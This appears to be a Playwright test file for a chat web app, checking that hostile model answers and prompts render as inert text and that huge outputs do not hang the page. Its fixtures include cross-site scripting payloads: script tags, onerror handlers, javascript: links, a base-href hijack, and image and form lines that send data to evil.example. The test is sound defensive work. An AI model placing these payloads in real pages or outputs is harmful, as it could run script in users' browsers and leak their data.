// What a model writes is text, whatever it writes: nothing in it runs, nothing in it calls out.
import { CORPUS, HUGE } from '../world/hostile.ts';
import { awake } from '../world/pages.ts';
import { Parlance } from '../world/parlance.ts';
import { expect, newChat, test as base } from '../world/story.ts';

// One reader asks for all of this: faster than readers may.
const test = base.extend({
  parlance: async ({ upstream }, use) => {
    const parlance = await Parlance.start(
      { openai: upstream.url },
      { PARLANCE_MESSAGE_BURST: '100', PARLANCE_MESSAGES_PER_MINUTE: '1000' },
    );
    await use(parlance);
    await parlance.remove();
  },
});

const HOSTILE = [
  '<script>window.harmed = 1; alert(1)</script>',
  '<img src="https://evil.example/pixel.png" onerror="window.harmed = 2">',
  '<svg onload="window.harmed = 3"></svg><iframe src="https://evil.example/"></iframe>',
  '[click](javascript:alert(document.cookie)) and [data](data:text/html,<script>alert(1)</script>)',
  '![a picture](https://evil.example/leak?q=secret)',
  '<a href="javascript:alert(1)">link</a><style>body{display:none}</style>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '```html\n</code></pre><script>window.harmed = 4</script>\n```',
  '[looks good](https://evil.example/path)',
  '</title></main></body><base href="https://evil.example/">',
].join('\n\n');

test('a hostile answer is shown as text: while it streams, and in the page that the server renders', async ({
  chat,
  page,
  upstream,
}) => {
  await chat.ask('Do your worst.');
  const answer = await upstream.next();
  // Cut everywhere: half a tag must not be taken for another thing than the whole.
  answer.say(...(HOSTILE.match(/[\s\S]{1,7}/g) ?? []));
  await expect(chat.text).toContainText('<base href="https://evil.example/">');
  await harmless(page);
  answer.finish();
  await expect(chat.answer).toHaveAttribute('data-status', 'complete');
  await harmless(page);
  await page.reload();
  await awake(page);
  await harmless(page);
  // A link to elsewhere is a link, and says where it leads.
  await expect(chat.text.getByRole('link', { name: /looks good.*evil\.example/ })).toHaveAttribute(
    'href',
    'https://evil.example/path',
  );
});

async function harmless(page: import('@playwright/test').Page): Promise<void> {
  const text = page.locator('article[data-role="assistant"] .message__text').last();
  await expect(text).toContainText('<script>window.harmed = 1; alert(1)</script>');
  await expect(text).toContainText('onerror="window.harmed = 2"');
  await expect(text.locator('script, img, svg, iframe, style, form, input, base')).toHaveCount(0);
  const targets = await text.locator('a').evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
  expect(targets.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([]);
  expect(await page.evaluate('window.harmed')).toBeUndefined();
}

test('a hostile prompt is text too: in its bubble, in the title and in the list', async ({ chat, page, upstream }) => {
  const prompt = '</title><script>window.harmed = 5</script><img src=x onerror="window.harmed = 6">';
  await chat.ask(prompt);
  await upstream.answer('No.');
  await chat.expectAnswer('No.');
  await expect(chat.history.getByRole('link').first()).toContainText('<script>');
  await page.reload();
  await awake(page);
  await expect(chat.prompts.locator('.message__text')).toHaveText(prompt);
  await expect(page).toHaveTitle(/<script>window\.harmed = 5<\/script>/);
  await expect(chat.history.getByRole('link').first()).toContainText('<script>');
  expect(await page.evaluate('window.harmed')).toBeUndefined();
});

test('text of every script and length comes through whole', async ({ chat, page, upstream, person }) => {
  const prompt = 'Grüße, 你好, مرحبا بالعالم, 👩‍👩‍👧‍👦 and\n\na second line with <b>tags</b> & entities &amp; “quotes”';
  await chat.ask(prompt);
  const text = '你好，世界。 مرحبا 👩‍👩‍👧‍👦 e\u0301 done';
  // One character a delta: clusters are cut apart on their way.
  const answer = await upstream.next();
  expect(answer.prompt).toBe(prompt);
  answer.say(...text);
  answer.finish();
  await chat.expectAnswer(text);
  expect(await chat.prompts.locator('.message__text').innerText()).toBe(prompt);
  await page.reload();
  await awake(page);
  await chat.expectAnswer(text);
  expect((await person.stored(page.url())).map((message) => message.message)).toEqual([prompt, text]);
});

/** Everything that an answer may consist of. */
const ELEMENTS =
  'p h3 h4 h5 h6 ul ol li blockquote hr br figure figcaption pre code span button div table thead tbody tr th td em strong del a sup ' +
  'math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle mpadded mphantom menclose';
const ATTRIBUTES =
  'class id href title rel target start tabindex role type data-act data-word data-then aria-label aria-hidden aria-pressed display displaystyle scriptlevel ' +
  'stretchy symmetric fence separator largeop movablelimits accent accentunder mathvariant linethickness width height depth lspace ' +
  'rspace minsize maxsize';

/** What is in the answers that may not be there. */
async function foreign(page: import('@playwright/test').Page): Promise<string[]> {
  return page.evaluate(
    ([elements, attributes]) => {
      const all = [...document.querySelectorAll('.message__text.prose *')];
      const strange = all.filter((one) => !elements.includes(one.localName)).map((one) => one.outerHTML);
      const dressed = all.flatMap((one) =>
        one.getAttributeNames().filter((name) => !attributes.includes(name)).map((name) => `${one.localName} ${name}`),
      );
      const led = [...document.querySelectorAll('.message__text.prose a')]
        .map((link) => link as HTMLAnchorElement)
        // Between a footnote and its mark: within the page.
        .filter((link) => !/^#(note|mark)-\d+-/.test(link.getAttribute('href') ?? ''))
        .filter((link) => !['http:', 'https:', 'mailto:'].includes(link.protocol) || !link.rel.includes('noopener'))
        .map((link) => link.outerHTML);
      const named = all.filter((one) => one.id !== '' && !/^(note|mark)-\d+-[\p{L}\p{N}_-]+$/u.test(one.id)).map((one) => one.outerHTML);
      const harmed = (window as { harmed?: unknown }).harmed === undefined ? [] : ['something ran'];
      return [...strange, ...dressed, ...led, ...named, ...harmed];
    },
    [ELEMENTS.split(' '), ATTRIBUTES.split(' ')] as const,
  );
}

test(`${CORPUS.length} hostile answers: nothing runs, nothing calls out, nothing is there that is not ours`, async ({
  chat,
  page,
  upstream,
}) => {
  test.setTimeout(240_000);
  expect(new Set(CORPUS).size).toBeGreaterThanOrEqual(200);
  const size = 60;
  for (let at = 0; at < CORPUS.length; at += size) {
    await chat.ask(`From ${at} on.`);
    const answer = await upstream.next();
    // Each on its own, cut in the middle.
    for (const text of CORPUS.slice(at, at + size)) {
      const half = Math.ceil(text.length / 2);
      answer.say(text.slice(0, half), `${text.slice(half)}\n\n`);
    }
    answer.say(`until ${at}`);
    await expect(chat.text).toContainText(`until ${at}`);
    expect(await foreign(page), `while it is written, from ${at} on`).toEqual([]);
    answer.finish();
    await expect(chat.answer).toHaveAttribute('data-status', 'complete');
    expect(await foreign(page), `from ${at} on`).toEqual([]);
  }
  // Whoever touches it and clicks on it is not harmed either; links are left alone: they lead elsewhere, and say so.
  await page.evaluate(() => {
    for (const one of document.querySelectorAll('.message__text.prose :not(a, a *, button)')) {
      for (const type of ['mouseover', 'focus', 'toggle', 'animationstart']) one.dispatchEvent(new Event(type, { bubbles: true }));
    }
  });
  expect(await foreign(page)).toEqual([]);
  await page.reload();
  await awake(page);
  expect(await foreign(page), 'as the server renders it').toEqual([]);
  await expect(chat.text).toContainText('until');
});

test('nothing hangs on towers and lines without end', async ({ page, context, parlance, person, upstream }) => {
  test.setTimeout(300_000);
  await person.comesTo(context);
  for (const [name, text] of HUGE) {
    const chat = await newChat(page, parlance.url, person);
    await chat.ask(name);
    const answer = await upstream.next();
    answer.say(...(text.match(/[\s\S]{1,20000}/g) ?? []));
    answer.finish();
    // A megabyte in one line is laid out anew each time it grows: that takes its time, and is no hanging.
    await expect(chat.answer, name).toHaveAttribute('data-status', 'complete', { timeout: 90_000 });
    // The page answers: a key is in the box soon after.
    const start = Date.now();
    await chat.composer.fill('still here');
    await expect(chat.composer).toHaveValue('still here');
    expect(Date.now() - start, name).toBeLessThan(5_000);
    await chat.composer.fill('');
    expect(await foreign(page), name).toEqual([]);
  }
});
